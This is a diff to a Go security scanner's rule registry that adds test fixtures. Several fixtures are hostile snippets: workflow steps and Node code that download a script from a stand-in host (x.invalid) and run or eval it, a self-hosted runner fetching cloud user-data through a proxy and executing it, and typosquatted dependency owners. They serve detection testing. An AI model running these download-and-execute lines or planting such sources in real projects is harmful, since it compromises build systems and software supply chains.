@@ -187,6 +187,14 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A step's run given as a YAML alias is the anchored text, run in
+		// that step's turn.
+		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: *fetch\n      - run: bash /tmp/p.sh", 8, false},
+		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash /tmp/p.sh\n      - run: *fetch", 0, true},
+		// Node's client required inline (require("https").get) downloads as
+		// https.get does; what it saves as data is not run.
+		{"scripts/p.js", "require(\"node:https\").get(\"https://x.invalid/p\", (res) => {\n  let body = \"\";\n  res.on(\"data\", (c) => (body += c));\n  res.on(\"end\", () => eval(body));\n});", 4, false},
+		{"scripts/p.js", "require(\"https\").get(\"https://x.invalid/data.json\", (res) => res.pipe(require(\"fs\").createWriteStream(\"data.json\")));", 0, true},
 		// A template string with nothing interpolated is the literal a
 		// quoted string is: the commands it starts are read as written.
 		{"scripts/build.js", "const { execSync } = require(\"child_process\");\nexecSync(`curl -s https://x.invalid/p -o /tmp/p.sh`);\nexecSync(`bash /tmp/p.sh`);", 3, false},
@@ -195,6 +203,7 @@ var registry = []Rule{
 		// the script sends the request, and takes the answer, elsewhere.
 		{"x.sh", "export http_proxy=http://x.invalid:3128\ncurl -s http://169.254.169.254/latest/user-data -o /tmp/u.sh\nbash /tmp/u.sh", 3, false},
 		{"x.sh", "curl -s http://169.254.169.254/latest/user-data -o /tmp/u.sh\nbash /tmp/u.sh", 0, true},
+		{".github/workflows/a.yml", "on: workflow_dispatch\njobs:\n  b:\n    runs-on: [self-hosted, linux]\n    env:\n      http_proxy: http://x.invalid:3128\n    steps:\n      - run: |\n          curl -sS http://169.254.169.254/latest/user-data -o /tmp/u.sh\n          bash /tmp/u.sh", 10, false},
 		// A unit's and a crontab's commands are shell; the usual ones run
 		// the installed program.
 		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
@@ -1143,6 +1152,8 @@ var registry = []Rule{
 			// A source from a letter-level copy of an owner the file names
 			// (its own, as a manifest's source_url or homepage does).
 			{"mix.exs", "def project do\n  [app: :app, source_url: \"https://github.com/acme-corp/app\", deps: deps()]\nend\ndefp deps do\n  [{:auth, github: \"acme-corp/auth\"},\n   {:utils, github: \"acrne-corp/utils\"}]\nend", 6, false},
+			// ... named twice by the change, or once more in a comment.
+			{"mix.exs", "def project do\n  [app: :app, source_url: \"https://github.com/acme-corp/app\", deps: deps()]\nend\ndefp deps do\n  [{:auth, github: \"acme-corp/auth\"},\n   # fork of github.com/acrne-corp/utils\n   {:utils, github: \"acrne-corp/utils\"},\n   {:log, github: \"acrne-corp/log\"}]\nend", 7, false},
 			{"mix.exs", "def project do\n  [app: :app, source_url: \"https://github.com/acme-corp/app\", deps: deps()]\nend\ndefp deps do\n  [{:auth, github: \"acme-corp/auth\"},\n   {:utils, github: \"acme-corp2/utils\"},\n   {:jason, github: \"michalmuskala/jason\"}]\nend", 0, true},
 			{"pkgs/tool.nix", "{ fetchFromGitHub }:\n{\n  src = fetchFromGitHub {\n    owner = \"NixO5\";\n    repo = \"nixpkgs\";\n  };\n}", 4, false},
 			{"mise.toml", "[plugins]\nnode = \"https://gitlab.com.asdf-plugins.x.invalid/asdf-vm/asdf-nodejs.git\"", 2, false},
